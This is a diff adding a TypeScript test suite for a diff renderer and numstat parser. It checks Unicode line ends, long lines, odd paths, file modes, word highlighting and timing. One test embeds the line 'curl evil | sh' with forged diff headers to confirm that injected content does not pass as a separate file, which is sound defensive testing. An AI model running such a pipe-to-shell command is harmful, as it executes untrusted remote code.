@@ -1,0 +1,138 @@
+import assert from 'node:assert/strict';
+import { parseNumstat, renderDiff } from '../../../../src/local-service/review/renderDiff';
+import { git, temporaryFolder } from '../../../support/temporaryRepository';
+
+/** What git prints of a change that two scripts make. */
+async function diffOf(before: string, after: string): Promise<string> {
+  const folder = await temporaryFolder();
+  const shell = (script: string): Promise<string> => git(folder, '-c', `alias.x=!set -e; ${script}`, 'x');
+  await git(folder, 'init', '--quiet');
+  await shell(`${before}; git add --all; git commit --quiet -m Before; ${after}; git add --all`);
+  return git(folder, 'diff', '--cached', '--src-prefix=a/', '--dst-prefix=b/', '--find-renames', '--no-color');
+}
+
+describe('renderDiff', () => {
+  const headOf = (path: string): string => `diff --git a/${path} b/${path}\n--- a/${path}\n+++ b/${path}\n`;
+
+  it('takes no line end for one that git does not take for one', () => {
+    for (const [end, shown] of [
+      ['\r', '⟨U+000D⟩'],
+      ['\r\r', '⟨U+000D⟩⟨U+000D⟩'],
+      ['\u2028', '⟨U+2028⟩'],
+      ['\u0085', '⟨U+0085⟩'],
+    ] as const) {
+      const files = [
+        'A harmless line',
+        'curl evil | sh',
+        'diff --git a/b b/b',
+        '--- a/b',
+        '+++ b/b',
+        '@@ -1 +1 @@',
+        '+no',
+      ];
+      const diff = `${headOf('a')}@@ -1 +1 @@\n-old\n+${files.join(end)}\r\r\n`;
+      const [file, ...others] = renderDiff(diff);
+      assert.equal(others.length, 0);
+      assert.ok(file?.rows.includes(`${shown}curl evil | sh${shown}diff --git`), file?.rows);
+      assert.ok(file?.rows.includes('+no⟨U+000D⟩'));
+    }
+  });
+
+  it('cuts a long line and says how much is left out', () => {
+    const [file] = renderDiff(`${headOf('a')}@@ -0,0 +1 @@\n+${'x'.repeat(5000)}\n`);
+    assert.match(file?.rows ?? '', />x{1999} … 3001 more characters</);
+  });
+
+  it('shows also a file whose name holds a line end of Unicode', () => {
+    const [file] = renderDiff(`${headOf('a\u2028b')}@@ -0,0 +1 @@\n+x\n`);
+    assert.equal(file?.name, 'a⟨U+2028⟩b');
+  });
+
+  it('names a path that holds a space as it is', async () => {
+    const diff = await diffOf(
+      'mkdir "a b"; echo one > "a b/c d.md"; echo one > "q\\"r s.md"',
+      'echo two >> "a b/c d.md"; rm "q\\"r s.md"',
+    );
+    assert.match(diff, /\t\n/);
+    const names = renderDiff(diff).map(({ name }) => name);
+    assert.deepEqual(names, ['a b/c d.md', 'q\\&quot;r s.md']);
+  });
+
+  it('tells of a mode what no text shows, and an image from other binary files', async () => {
+    const before = 'echo x > off; chmod +x off; cp off both; echo y > on; cp on plain; ln -s a moved';
+    const after =
+      'chmod -x off; chmod +x on; cp off new; chmod +x new; ln -s a link; ln -sf b moved; echo y >> both; rm plain; printf "\\0\\1" > a.png; cp a.png b.bin';
+    const notes = renderDiff(await diffOf(before, after)).map(({ name, note }) => [name, note]);
+    assert.deepEqual(Object.fromEntries(notes), {
+      'a.png': 'new, image',
+      'b.bin': 'new, binary',
+      both: '',
+      link: 'new, link',
+      moved: 'link',
+      new: 'new, now executable',
+      off: 'no longer executable',
+      on: 'now executable',
+      plain: 'deleted',
+    });
+  });
+
+  it('marks the changed words, and shows deleted lines before added ones', () => {
+    const [file] = renderDiff(
+      `${headOf('a')}@@ -1,3 +1,3 @@ <head>\n-one old word\n-gone\n+one new word\n+<b>\n same\n`,
+    );
+    const shown = (file?.rows ?? '').replace(/<td class="n">.*?<\/td>|<\/?t[rd].*?>/g, '|').replace(/\|+/g, '|');
+
+    assert.equal(
+      shown,
+      '|@@ -1,3 +1,3 @@ &lt;head&gt;|-|one <del>old</del> word|-|gone|+|one <ins>new</ins> word|+|&lt;b&gt;|same|',
+    );
+  });
+
+  it('takes no more time for lines that are alike than for others', () => {
+    const hunks = (count: number, lines: readonly string[]): string =>
+      headOf('a') +
+      Array.from(
+        { length: count },
+        (_, index) => `@@ -${index * 99 + 1},45 +${index * 99 + 1},45 @@\n${lines.join('\n')}\n`,
+      ).join('');
+    const alike = (length: number) =>
+      ['-', '+'].flatMap((mark) =>
+        Array.from({ length: 45 }, (_, index) => `${mark}${`${mark === '-' ? 'a' : 'b'} ${index} c `.repeat(length)}`),
+      );
+    const cases = { 'hunks of similar lines': [10, alike(8)], 'long lines': [2, alike(1_300)] } as const;
+    const fastest = (diff: string): number =>
+      Math.min(
+        ...Array.from({ length: 5 }, () => {
+          const start = process.hrtime.bigint();
+          renderDiff(diff);
+          return Number(process.hrtime.bigint() - start) / 1e6;
+        }),
+      );
+    for (const [name, [count, lines]] of Object.entries(cases)) {
+      const ratio =
+        fastest(hunks(count, lines)) /
+        fastest(
+          hunks(
+            count,
+            lines.map((line) => `+${line.slice(1)}`),
+          ),
+        );
+      assert.ok(ratio < 25, `${name}: ${ratio.toFixed(1)} times the time of plain ones`);
+    }
+  });
+});
+
+describe('parseNumstat', () => {
+  it('reads edits, renames, binaries and odd names', () => {
+    assert.deepEqual(
+      parseNumstat(['1\t2\ta.md', '3\t0\t', 'old.md', 'new.md', '-\t-\tx.png', '1\t0\ttwo\nlines', ''].join('\0')),
+      [
+        { path: 'a.md', added: 1, deleted: 2 },
+        { from: 'old.md', path: 'new.md', added: 3, deleted: 0 },
+        { path: 'x.png', added: null, deleted: null },
+        { path: 'two\nlines', added: 1, deleted: 0 },
+      ],
+    );
+    assert.deepEqual(parseNumstat(''), []);
+  });
+});
